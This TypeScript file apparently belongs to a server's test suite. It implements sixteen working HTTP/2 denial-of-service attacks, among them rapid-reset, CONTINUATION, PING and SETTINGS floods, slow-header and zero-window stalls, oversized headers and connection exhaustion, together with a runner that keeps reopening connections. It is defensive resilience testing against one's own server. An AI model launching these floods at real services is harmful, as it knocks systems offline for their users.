// What a hostile client may do with HTTP/2 before, beside and instead of calling. Only ever run against a core of one's own.
import { setImmediate as turn } from "node:timers/promises";
import {
  Flag,
  frame,
  FrameType,
  headerBlock,
  keptHeaderBlock,
  knownHeaderBlock,
  settings,
  u32be,
} from "../../testing/src/http2/frame.ts";
import { RawConnection, type RawOptions } from "../../testing/src/http2/raw-connection.ts";

export interface Target {
  readonly address: string;
  /** A method that the core has. */
  readonly path: string;
}

/** When an attack ends: after so many frames a connection, or when it is told to. */
export interface Until {
  readonly frames: number;
  readonly signal: AbortSignal;
  /** Every lane has one connection and waits until the core ends it. */
  readonly thenWait?: boolean;
}

export interface Attacked {
  /** Frames, or pieces of such, that were written. */
  readonly frames: number;
  readonly connections: number;
  /** Of those the ones that the core ended before the attacker did. */
  readonly ended: number;
}

export interface Attack {
  readonly name: string;
  readonly says: string;
  readonly connections: number;
  readonly options?: RawOptions;
  /** The nth piece that goes out on a connection. */
  piece(target: Target, n: number): Buffer;
  /** Milliseconds between two pieces. */
  readonly everyMs?: number;
  /** Sends no more than that and keeps the connection. */
  readonly most?: number;
}

const NO_SETTINGS: RawOptions = {};
/** SETTINGS_INITIAL_WINDOW_SIZE: the core may send nothing of an answer. */
const NO_WINDOW: RawOptions = { settings: [[4, 0]] };
const EIGHT = Buffer.alloc(8);
/** No bytes of message, uncompressed. */
const EMPTY_MESSAGE = Buffer.alloc(5);
const SLOW_MS = 20;
const NO_ERROR = u32be(0);
const ONE_BYTE = [["content-length", "1"]] as const;
const CANCEL = u32be(8);

function fieldsOf({ path, address }: Target): readonly (readonly [string, string])[] {
  return [
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", address],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ];
}

function headers(target: Target, n: number, flags: number): Buffer {
  return frame(FrameType.HEADERS, flags, 2 * n + 1, headerBlock(fieldsOf(target)));
}

/** Begun and reset in 28 bytes: the core keeps the head of the first. */
function shortHeaders(target: Target, n: number, more: readonly (readonly [string, string])[] = []): Buffer {
  const fields = [...fieldsOf(target), ...more];
  const block = n === 0 ? keptHeaderBlock(fields) : knownHeaderBlock(fields);
  return frame(FrameType.HEADERS, Flag.END_HEADERS, 2 * n + 1, block);
}

function reset(n: number, code = CANCEL): Buffer {
  return frame(FrameType.RST_STREAM, 0, 2 * n + 1, code);
}

/** A request without a field, whole. */
function message(n: number): Buffer {
  return frame(FrameType.DATA, Flag.END_STREAM, 2 * n + 1, EMPTY_MESSAGE);
}

export const ATTACKS: readonly Attack[] = [
  {
    name: "open-streams",
    says: "20 000 streams a connection, begun and left",
    connections: 5,
    options: NO_SETTINGS,
    piece: (target, n) => headers(target, n, Flag.END_HEADERS),
    most: 20_000,
  },
  {
    name: "rapid-reset",
    says: "streams begun and reset at once",
    connections: 5,
    piece: (target, n) => Buffer.concat([headers(target, n, Flag.END_HEADERS), reset(n)]),
  },
  {
    name: "short-reset",
    says: "the same with heads that the core knows: 2300 streams in what it reads at once",
    connections: 5,
    piece: (target, n) => Buffer.concat([shortHeaders(target, n), reset(n)]),
  },
  {
    name: "quiet-reset",
    says: "streams that are reset without an error",
    connections: 5,
    piece: (target, n) => Buffer.concat([shortHeaders(target, n), reset(n, NO_ERROR)]),
  },
  {
    name: "late-reset",
    says: "whole calls, given up at once",
    connections: 5,
    piece: (target, n) => Buffer.concat([shortHeaders(target, n), message(n), reset(n)]),
  },
  {
    name: "made-reset",
    says: "requests longer than they say, which would have to be reset by the core",
    connections: 5,
    piece: (target, n) => Buffer.concat([shortHeaders(target, n, ONE_BYTE), message(n)]),
  },
  {
    name: "spread-reset",
    says: "rapid resets from many connections",
    connections: 300,
    piece: (target, n) => Buffer.concat([shortHeaders(target, n), reset(n)]),
  },
  {
    name: "continuation",
    says: "a header block without end",
    connections: 5,
    piece: (target, n) =>
      n === 0 ? headers(target, 0, 0) : frame(FrameType.CONTINUATION, 0, 1, headerBlock([[`x-${n}`, "v"]])),
  },
  { name: "settings", says: "SETTINGS that want their ACK", connections: 5, piece: () => settings([3, 100]) },
  { name: "ping", says: "PING that want their ACK", connections: 5, piece: () => frame(FrameType.PING, 0, 0, EIGHT) },
  {
    name: "no-window",
    says: "calls whose answers are not taken",
    connections: 50,
    options: NO_WINDOW,
    piece: (target, n) => Buffer.concat([headers(target, n, Flag.END_HEADERS), message(n)]),
    most: 100,
  },
  {
    name: "slow-headers",
    says: "a request's head, one byte at a time",
    connections: 200,
    piece: (target, n) => {
      const bytes = headers(target, 0, Flag.END_HEADERS);
      return bytes.subarray(n, n + 1);
    },
    everyMs: SLOW_MS,
    most: 100,
  },
  {
    name: "slow-greeting",
    says: "connections that do not even say what they speak",
    connections: 200,
    options: { greet: false },
    piece: () => Buffer.from("PRI"),
    everyMs: SLOW_MS,
    most: 1,
  },
  {
    name: "giant-headers",
    says: "heads of 48 kB where 16 are taken",
    connections: 5,
    piece: (target, n) => {
      const block = Buffer.concat([headerBlock(fieldsOf(target)), headerBlock(GIANT)]);
      const parts = [frame(FrameType.HEADERS, Flag.END_STREAM, 2 * n + 1, block.subarray(0, 16_384))];
      for (let at = 16_384; at < block.length; at += 16_384) {
        const flags = at + 16_384 >= block.length ? Flag.END_HEADERS : 0;
        parts.push(frame(FrameType.CONTINUATION, flags, 2 * n + 1, block.subarray(at, at + 16_384)));
      }
      return Buffer.concat(parts);
    },
  },
  {
    name: "endless-message",
    says: "one message that is 4 GB long by its own account",
    connections: 5,
    piece: (target, n) => {
      if (n === 0) return headers(target, 0, Flag.END_HEADERS);
      if (n === 1) return frame(FrameType.DATA, 0, 1, Buffer.concat([Buffer.of(0), u32be(0xffff_ffff)]));
      return frame(FrameType.DATA, 0, 1, Buffer.alloc(16_384));
    },
  },
  {
    name: "connections",
    says: "many connections that do nothing",
    connections: 1000,
    piece: () => frame(FrameType.PING, 0, 0, EIGHT),
    most: 1,
  },
];

const GIANT = Array.from({ length: 48 }, (_, i) => [`x-giant-${i}`, "g".repeat(1000)] as const);
/** Not the address of those who behave: addresses take turns. */
const ATTACKER = "127.0.0.2";
/** Pieces that are written before others get a turn. */
const AT_ONCE = 50;

/** Runs it on all its connections; one that the core ends is opened anew as long as there is something left to send. */
export async function run(attack: Attack, target: Target, until: Until): Promise<Attacked> {
  const counts = { frames: 0, connections: 0, ended: 0 };
  const held: RawConnection[] = [];
  const lane = async (): Promise<void> => {
    let left = until.frames;
    while (left > 0 && !until.signal.aborted) {
      const raw = await RawConnection.open(target.address, { ...attack.options, from: ATTACKER }).catch(
        () => undefined,
      );
      if (raw === undefined) {
        left -= 1;
        await turn();
        continue;
      }
      counts.connections += 1;
      const sent = await send(attack, target, raw, Math.min(left, attack.most ?? left), until.signal);
      counts.frames += sent;
      left -= Math.max(1, sent);
      if (until.thenWait === true) {
        await raw.closed;
        left = 0;
      }
      if (raw.isOpen && attack.most === undefined) raw.destroy();
      else if (raw.isOpen) {
        held.push(raw);
        if (sent >= attack.most!) break;
      } else counts.ended += 1;
    }
  };
  await Promise.all(Array.from({ length: attack.connections }, lane));
  if (until.frames === Infinity) await aborted(until.signal);
  for (const raw of held) {
    if (!raw.isOpen) counts.ended += 1;
    raw.destroy();
  }
  return counts;
}

async function send(
  attack: Attack,
  target: Target,
  raw: RawConnection,
  most: number,
  signal: AbortSignal,
): Promise<number> {
  let n = 0;
  while (n < most && raw.isOpen && !signal.aborted) {
    const count = attack.everyMs === undefined ? Math.min(AT_ONCE, most - n) : 1;
    const pieces = Array.from({ length: count }, (_, i) => attack.piece(target, n + i));
    await raw.write(Buffer.concat(pieces));
    n += count;
    if (attack.everyMs === undefined) await turn();
    else await new Promise((resolve) => setTimeout(resolve, attack.everyMs));
  }
  return n;
}

function aborted(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener("abort", () => resolve(), { once: true });
  });
}
